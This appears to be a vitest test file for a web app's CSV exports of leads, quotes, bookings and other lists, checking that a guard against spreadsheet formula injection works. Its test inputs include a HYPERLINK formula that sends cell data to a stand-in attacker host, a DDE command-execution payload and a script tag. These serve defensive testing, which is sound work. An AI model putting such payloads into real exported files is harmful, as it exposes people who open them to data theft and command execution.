import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { unguardFormula } from '#domain/csv/formula-guard.ts';
import { bookingRequest, quoteRequest } from '#server/testing/world/factories.ts';
import { createLeadsTest } from '#server/testing/world/leads.ts';
import { insertLeads } from '#server/testing/world/many-leads.ts';

const read = (body: string): Record<string, string>[] =>
  parse(body, { bom: true, columns: true, cast: unguardFormula });

/** Texts that a spreadsheet evaluates, that break a line or a quote, and in many scripts. */
const hostile = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1;"Click")',
  "=cmd|'/C calc'!A0",
  '+1 555 010 2030',
  '-2+3',
  '@SUM(1+1)*cmd',
  "'=1+1",
  "''+1",
  '＝1+1',
  '＠x',
  'a "quoted" word',
  '"',
  '""=1',
  'comma, semicolon; tab',
  "O'Brien",
  'Émile Zölä 株式会社 שלום 🏔️',
  '1,000.50',
  '00123',
  '<script>alert(1)</script>',
  'null',
];

describe('a list as a CSV file', () => {
  test('makes hostile text harmless to a spreadsheet, and unchanged once the guard is removed', async () => {
    const { add, get } = await createLeadsTest();
    for (const [index, text] of hostile.entries())
      await add({
        firstName: text,
        company: text,
        message: `${text}\r\nsecond "line", ${text}\n=third`,
        email: `${index}@example.com`,
      });
    const reply = await get('/api/leads.csv?sort=email');
    expect(reply.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(reply.headers['content-disposition']).toBe(
      'attachment; filename="leads-2026-03-04.csv"',
    );
    const cells: string[][] = parse(reply.body, { bom: true });
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
    const byEmail = new Map(read(reply.body).map((row) => [row.Email, row]));
    for (const [index, text] of hostile.entries())
      expect(byEmail.get(`${index}@example.com`)).toMatchObject({
        'First name': text,
        Company: text,
        Message: `${text}\r\nsecond "line", ${text}\n=third`,
      });
  });

  test('contains all matching rows in the requested order, however many pages there are', async () => {
    const { app, get } = await createLeadsTest();
    const count = 1203;
    await app.database.transaction((tx) => insertLeads(tx, count));
    const all = read((await get('/api/leads.csv?sort=-score&limit=2')).body);
    expect(all).toHaveLength(count);
    const scores = all.map((row) => Number(row.Score));
    expect(scores).toEqual(scores.toSorted((a, b) => b - a));
    const filtered = read((await get('/api/leads.csv?source=quote&sort=-score')).body);
    expect(filtered.map((row) => row.Id)).toEqual(all.map((row) => row.Id));
    const some = read((await get('/api/leads.csv?status=contacted&q=person%2011')).body);
    const listed = await get('/api/leads?status=contacted&q=person%2011');
    expect(some.map((row) => row.Id)).toEqual(listed.json().map((lead: { id: string }) => lead.id));
    expect(some.length).toBeGreaterThan(10);
  });

  test('of every list is harmless to a spreadsheet, and unchanged once the guard is removed', async () => {
    const { app, add, get, post, remove } = await createLeadsTest();
    const text = '=HYPERLINK("http://evil.example?"&A1;"Click")\n\'=1';
    const line = text.replace('\n', ' ');
    await add({ firstName: line, message: text });
    const quote = quoteRequest({ customerName: line, customerCompany: line });
    for (const [url, payload] of [
      ['/api/quotes', quote],
      ['/api/bookings', bookingRequest({ firstName: line, message: text })],
      ['/api/contact', { name: line, email: 'e@evil.example', message: text }],
    ] as const)
      expect((await app.call({ method: 'POST', url, payload })).statusCode, url).toBe(201);
    for (let count = 0; count < 2; count += 1) await post('/api/projects', { name: line });
    const [newest] = (await get('/api/projects')).json();
    await remove(`/api/projects/${newest.id}`);

    const lists = app.app.endpoints
      .map(({ path }) => path)
      // A client's own file is not a back-office list.
      .filter((path) => path.endsWith('.csv') && !/:|^\/api\/client\//.test(path));
    const holding: string[] = [];
    for (const list of lists) {
      const reply = await get(list);
      expect([list, reply.statusCode]).toEqual([list, 200]);
      const cells: string[] = parse(reply.body, { bom: true }).flat();
      const active = cells.filter((cell) => /^\s*[=+@＝＋－＠]/.test(cell));
      expect([list, active]).toEqual([list, []]);
      if (cells.some((cell) => [text, line].includes(String(unguardFormula(cell)))))
        holding.push(list);
    }
    expect(holding.sort()).toEqual(
      ['bin', 'bookings', 'inbox', 'leads', 'projects', 'quotes'].map((list) => `/api/${list}.csv`),
    );
  });

  test.each([
    'leads',
    'quotes',
    'bookings',
    'users',
    'projects',
    'inbox',
    'mail',
    'audit',
    'chat/sessions',
  ])(
    'of %s has its headings even when nothing matches, and accepts the query of the list',
    async (list) => {
      const { get } = await createLeadsTest();
      const empty = await get(`/api/${list}.csv?q=nobody-has-this`);
      expect(empty.statusCode).toBe(200);
      expect(empty.body.startsWith('\ufeff')).toBe(true);
      expect(empty.body.trim().split('\r\n')).toHaveLength(1);
      expect((await get(`/api/${list}.csv?sort=nonsense`)).statusCode).toBe(400);
    },
  );
});
